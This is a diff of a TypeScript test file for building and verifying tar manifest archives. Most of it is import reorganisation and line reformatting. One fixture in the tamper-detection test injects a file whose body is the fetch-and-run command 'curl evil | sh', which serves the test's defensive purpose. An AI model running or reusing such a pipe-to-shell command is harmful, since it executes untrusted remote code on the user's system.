@@ -3,7 +3,8 @@ import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Readable } from 'node:stream';
-import { canonicalJson, sha256Digest, sha256Hex } from '../src/core/canonical';
+import { canonicalJson } from '../src/lib/canonical';
+import { sha256Digest, sha256Hex } from '../src/lib/hash';
 import {
   ArchiveError,
   buildTar,
@@ -20,7 +21,12 @@ import {
 const CREATED_AT = '2024-05-01T12:00:00.000Z';
 const FILES: ManifestArchiveInput[] = [
   { path: 'outputs/verdict.json', data: '{"verdict":"pass"}', mediaType: 'application/json' },
-  { path: 'inputs/sbom.spdx.json', data: Buffer.from('{"spdxVersion":"SPDX-2.3"}'), mediaType: 'application/spdx+json', meta: { tool: 'syft', version: '1.0.0' } },
+  {
+    path: 'inputs/sbom.spdx.json',
+    data: Buffer.from('{"spdxVersion":"SPDX-2.3"}'),
+    mediaType: 'application/spdx+json',
+    meta: { tool: 'syft', version: '1.0.0' },
+  },
   { path: 'inputs/image.digest', data: 'sha256:abc\n' },
   { path: 'zz-last.bin', data: Buffer.from([0, 255, 1, 254]) },
 ];
@@ -65,12 +71,24 @@ describe('writeManifestArchive', () => {
       mediaType: 'application/spdx+json',
       meta: { tool: 'syft', version: '1.0.0' },
     });
-    expect(manifest.entries.find((e) => e.path === 'zz-last.bin')).toEqual({ path: 'zz-last.bin', sha256: sha256Digest(Buffer.from([0, 255, 1, 254])), size: 4 });
+    expect(manifest.entries.find((e) => e.path === 'zz-last.bin')).toEqual({
+      path: 'zz-last.bin',
+      sha256: sha256Digest(Buffer.from([0, 255, 1, 254])),
+      size: 4,
+    });
   });
 
   it('rejects a reserved path, duplicates and a bad createdAt', async () => {
     await expect(writeManifestArchive([{ path: MANIFEST_PATH, data: '{}' }], { kind: 'k', createdAt: CREATED_AT })).rejects.toThrow(/reserved/);
-    await expect(writeManifestArchive([{ path: 'a', data: '1' }, { path: 'a', data: '2' }], { kind: 'k', createdAt: CREATED_AT })).rejects.toThrow(ArchiveError);
+    await expect(
+      writeManifestArchive(
+        [
+          { path: 'a', data: '1' },
+          { path: 'a', data: '2' },
+        ],
+        { kind: 'k', createdAt: CREATED_AT },
+      ),
+    ).rejects.toThrow(ArchiveError);
     await expect(writeManifestArchive([], { kind: 'k', createdAt: 'yesterday' })).rejects.toThrow(/invalid manifest/);
   });
 });
@@ -107,7 +125,9 @@ describe('verifyManifestArchive', () => {
     const manifest = files.find((f) => f.path === MANIFEST_PATH)!.body;
     const rebuilt = buildTar([
       { path: MANIFEST_PATH, data: manifest },
-      ...files.filter((f) => f.path !== MANIFEST_PATH && f.path !== 'inputs/image.digest' && f.path !== 'zz-last.bin').map((f) => ({ path: f.path, data: f.body })),
+      ...files
+        .filter((f) => f.path !== MANIFEST_PATH && f.path !== 'inputs/image.digest' && f.path !== 'zz-last.bin')
+        .map((f) => ({ path: f.path, data: f.body })),
       { path: 'zz-last.bin', data: Buffer.from([0, 255, 1]) },
       { path: 'smuggled/extra.sh', data: 'curl evil | sh' },
     ]);
